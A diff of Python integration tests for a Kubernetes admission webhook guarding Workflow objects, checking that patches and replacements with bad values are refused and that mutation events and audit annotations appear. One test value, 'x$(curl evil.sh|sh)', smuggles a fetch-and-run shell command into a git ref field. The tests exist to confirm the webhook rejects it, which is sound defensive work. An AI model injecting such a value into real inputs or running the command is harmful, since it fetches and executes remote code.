@@ -252,12 +252,21 @@ class T01Events(ClusterTest):
         self.assertEqual(parameters(get("workflow", name))["ref"], "my-branch")
 
     def test_unusable_event_is_a_warning(self):
-        result = create(workflow([("github-app", "qa"), ("event", "{not json"), ("repoFullName", "acme/widgets")]))
+        """A malformed event: kubectl shows the warning, defaults apply, EventParseFailed is posted,
+        and (issue 13, 7) the Mutated note lists every field the webhook's log says it filled."""
+        name = unique("badevent")
+        result = create(workflow([("github-app", "qa"), ("event", "{not json"), ("repoFullName", "acme/widgets")],
+                                 name=name))
         self.assertRegex(result.stderr, r"(?m)^Warning: event ignored, not valid JSON: ")
-        obj = result.json()
-        params = parameters(obj)
+        params = parameters(result.json())
         self.assertEqual((params["owner"], params["repo"], params["ref"]), ("acme", "widgets", "main"))
-        wait_event("workflow", obj["metadata"]["name"], "EventParseFailed")
+        wait_event("workflow", name, "EventParseFailed")
+        note = wait_event("workflow", name, "Mutated")[0]["message"]
+        filled = [line.get("filled") for line in CLUSTER.webhook_log_lines()
+                  if line.get("msg") == "admission" and line.get("name") == name and line.get("filled")]
+        self.assertTrue(filled, "no log line with the fields filled for " + name)
+        for field in filled[0]:
+            self.assertIn("%s=%s" % (field, params[field]), note)
 
 
 # ----- CodeRun and DocsRun -----
@@ -527,24 +536,29 @@ class T06Updates(ClusterTest):
         create(workflow([("github-app", "rex"), ("event", event_text("pull_request.opened"))], name=name))
         return get("workflow", name)
 
-    def test_patch_to_a_foreign_app_is_refused(self):
-        obj = self.stored()
-        params = [dict(p, value="hacker") if p["name"] == "github-app" else p
-                  for p in obj["spec"]["arguments"]["parameters"]]
-        result = kubectl("patch", "workflow", obj["metadata"]["name"], "-n", NS, "--type", "merge",
-                         "-p", json.dumps({"spec": {"arguments": {"parameters": params}}}), check=False)
-        self.assertDenied(result, "Error: Invalid github-app 'hacker'. Must be one of: " + APPS)
-        self.assertEqual(parameters(get("workflow", obj["metadata"]["name"]))["github-app"], "rex")
-
-    def test_replace_with_an_unsafe_ref_is_refused(self):
-        obj = self.stored()
-        for p in obj["spec"]["arguments"]["parameters"]:
-            if p["name"] == "ref":
-                p["value"] = EVIL_REF
-        result = kubectl("replace", "-f", "-", input=json.dumps(obj), check=False)
-        self.assertDenied(result, "Error: Invalid ref 'x$(curl evil.sh|sh)' (from parameter): "
-                                  "contains '$', which a shell would act on")
-        self.assertEqual(parameters(get("workflow", obj["metadata"]["name"]))["ref"], "changes")
+    def test_patch_or_replace_to_a_foreign_app_or_unsafe_ref_is_refused(self):
+        """kubectl patch --type merge and kubectl replace of a stored Workflow, each changing
+        github-app to hacker or ref to a shell injection: refused with the message of a create,
+        and the stored object unchanged."""
+        changes = (("github-app", "hacker", "Error: Invalid github-app 'hacker'. Must be one of: " + APPS),
+                   ("ref", EVIL_REF, "Error: Invalid ref 'x$(curl evil.sh|sh)' (from parameter): "
+                                     "contains '$', which a shell would act on"))
+        for verb in ("patch", "replace"):
+            for field, value, message in changes:
+                with self.subTest(verb=verb, field=field):
+                    obj = self.stored()
+                    name = obj["metadata"]["name"]
+                    for p in obj["spec"]["arguments"]["parameters"]:
+                        if p["name"] == field:
+                            p["value"] = value
+                    if verb == "patch":
+                        result = kubectl("patch", "workflow", name, "-n", NS, "--type", "merge", "-p",
+                                         json.dumps({"spec": {"arguments": obj["spec"]["arguments"]}}), check=False)
+                    else:
+                        result = kubectl("replace", "-f", "-", input=json.dumps(obj), check=False)
+                    self.assertDenied(result, message)
+                    stored = parameters(get("workflow", name))
+                    self.assertEqual((stored["github-app"], stored["ref"]), ("rex", "changes"))
 
     def test_status_and_label_updates_pass(self):
         obj = self.stored()
@@ -555,6 +569,12 @@ class T06Updates(ClusterTest):
         self.assertEqual(after["metadata"]["labels"]["cluster-test/touched"], "yes")
         self.assertEqual(after.get("status", {}).get("phase"), "Running")
         self.assertEqual(after["spec"], obj["spec"])
+        # v1.20 has no matchConditions: both updates did reach coderun-webhook, which changed nothing.
+        for entry in audit_for("workflows", name, verb="patch"):
+            rounds = [json.loads(v) for k, v in entry["annotations"].items()
+                      if k.startswith("mutation.webhook.admission.k8s.io/")]
+            self.assertIn({"configuration": "coderun-webhook", "webhook": "workflows.mutate.coderun-webhook.taskmaster.io",
+                           "mutated": False}, rounds, entry["annotations"])
 
     def test_apply_twice_keeps_the_filled_parameters(self):
         name = unique("apply")
@@ -746,7 +766,7 @@ SHORT = [
     "T04Audit.test_dry_run_posts_no_event",
     "T04Audit.test_already_exists_gets_no_second_event",
     "T05PromptsAndTemplates.test_system_prompt_path_is_the_agent_pods_path",
-    "T06Updates.test_patch_to_a_foreign_app_is_refused",
+    "T06Updates.test_patch_or_replace_to_a_foreign_app_or_unsafe_ref_is_refused",
     "T06Updates.test_apply_twice_keeps_the_filled_parameters",
     "T08Availability.test_webhook_down_refuses_then_serves_again",
 ]
